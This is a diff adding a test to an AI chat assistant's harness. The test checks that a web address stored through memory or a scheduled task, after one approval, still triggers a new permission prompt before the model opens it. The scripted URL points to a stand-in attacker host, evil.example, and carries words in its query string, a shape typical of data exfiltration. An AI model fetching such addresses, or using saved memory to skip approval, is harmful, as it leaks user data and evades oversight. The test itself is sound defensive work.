@@ -435,6 +435,39 @@ test('what a press has saved permits nothing later', async () => {
   await expectHeldBack(ann, owner);
 });
 
+test('an address in a note or task that a press has saved needs another press', async () => {
+  const url = 'https://evil.example/?words=heron+4711';
+  const ann = harness.user('Ann');
+  const later = { kind: 'question', text: `Read ${url}`, in_minutes: 30 };
+  const saving = [
+    { name: 'remember', arguments: { text: `See ${url}` } },
+    { name: 'schedule_task', arguments: later },
+  ];
+  harness.models.scripts.push(saving, 'Saved.');
+  sends(ann, { bytes: Buffer.from('Remember the address.') });
+  for (const tool of ['remember', 'schedule_task']) {
+    await harness.sees(ann.chatId, new RegExp(`^The model wants to use ${tool} with:`));
+    await ann.presses('Once');
+  }
+  await harness.sees(ann.chatId, 'Saved.');
+  harness.models.scripts.push([{ name: 'read_web_page', arguments: { url } }]);
+  ann.writes('/new');
+  ann.writes('Hello');
+  await harness.sees(ann.chatId, /^The model wants to open a page on evil\.example:/);
+  await harness.memories.removeAll({ userId: await userIdOf(ann) });
+  const [task] = (
+    await harness.tasks.list({ userId: await userIdOf(ann), groupId: undefined }, { offset: 0, limit: 1 })
+  ).tasks;
+  harness.models.scripts.push([{ name: 'read_web_page', arguments: { url } }]);
+  const askedBefore = harness.lines(ann.chatId).filter((line) => line.includes('wants to open')).length;
+  await harness.tasks.runNow({ userId: await userIdOf(ann), groupId: undefined }, task?.id ?? 0);
+  harness.taskScheduler.wake();
+  await expect
+    .poll(() => harness.lines(ann.chatId).filter((line) => line.includes('wants to open')).length)
+    .toBe(askedBefore + 1);
+  expect(sent).toEqual([]);
+});
+
 test("a persona and a note of others become the user's own by editing", async () => {
   const ann = harness.user('Ann');
   const authorId = await userIdOf(ann);
